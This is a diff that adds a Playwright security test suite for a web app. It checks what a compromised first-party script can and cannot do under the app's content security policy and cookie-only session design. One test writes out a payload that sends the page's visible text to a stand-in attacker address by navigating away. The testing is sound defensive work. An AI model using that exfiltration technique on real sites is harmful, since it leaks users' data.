@@ -1,0 +1,71 @@
+import { paths } from '@tokenless/bff/contract';
+import { ask } from '../../support/asking.ts';
+import { attackIn, expect, test } from '../../support/injected.ts';
+import { addNote, noteTitled } from '../../support/notes.ts';
+import { readStorage, readVariables } from '../../support/readable.ts';
+import { attack, lookAround } from '../../support/own-script.ts';
+import { tokensIn } from '../../support/tokens.ts';
+
+test.describe("a script of the app's own that has turned against it", { tag: '@chromium' }, () => {
+  test('makes no code of text, and loads none', async ({ page, pages, corruptScript, whatRan }) => {
+    corruptScript(attack);
+    await page.goto('/sign-in');
+    const outcomes = await attackIn<Record<string, string>>(page);
+
+    expect(Object.keys(outcomes).filter((name) => outcomes[name] !== 'refused')).toEqual([]);
+    expect(Object.keys(outcomes).length).toBeGreaterThan(20);
+    expect(await whatRan()).toEqual([]);
+    expect(pages.asked.map(({ url }) => url)).toEqual([]);
+  });
+
+  test('would do so without the policy', async ({ page, corruptScript, takePolicyOff }) => {
+    takePolicyOff();
+    corruptScript(attack);
+    await page.goto('/sign-in');
+    const outcomes = await attackIn<Record<string, string>>(page);
+
+    const refused = Object.keys(outcomes).filter((name) => outcomes[name] === 'refused');
+    // The attacker's server speaks no WebSocket, and has no worker of the app's origin to offer.
+    expect(refused).toEqual(['a worker', 'a service worker', 'a picture', 'a WebSocket']);
+  });
+
+  test('finds no token, even without the policy', async ({
+    page,
+    context,
+    signUp,
+    corruptScript,
+    takePolicyOff,
+    wire,
+  }) => {
+    takePolicyOff();
+    corruptScript(lookAround);
+    await signUp();
+    const seen = JSON.stringify(await attackIn(page));
+
+    expect(seen).toContain('Ada Lovelace');
+    expect(seen).toContain('"cookies":"","store":[]');
+    expect(seen).not.toContain('set-cookie');
+    expect(wire.cookieValues().length).toBeGreaterThan(1);
+    for (const read of [seen, ...(await readVariables(page)), JSON.stringify(await readStorage(page))]) {
+      expect(tokensIn(read, wire.cookieValues())).toEqual([]);
+    }
+    expect(await context.cookies()).toHaveLength(2);
+  });
+
+  test('can act as the person while the page is open', async ({ page, signUp }) => {
+    await signUp();
+    await addNote(page, { title: 'Theirs' });
+    const body = { title: 'Written by a script', body: '' };
+    expect((await ask(page, { method: 'POST', path: paths.notes, body })).status).toBe(201);
+    await page.reload();
+    await expect(noteTitled(page, 'Written by a script')).toBeVisible();
+  });
+
+  test('can send what it sees away in an address, by leaving the page', async ({ page, pages, signUp }) => {
+    await signUp();
+    const attacker = pages.addressOf('foreign', '/?seen=');
+    await page.evaluate((to) => location.assign(to + encodeURIComponent(document.body.innerText)), attacker);
+    await expect.poll(() => pages.asked[0]?.url).toContain('Ada');
+    expect(pages.asked[0]?.headers).not.toHaveProperty('referer');
+  });
+});
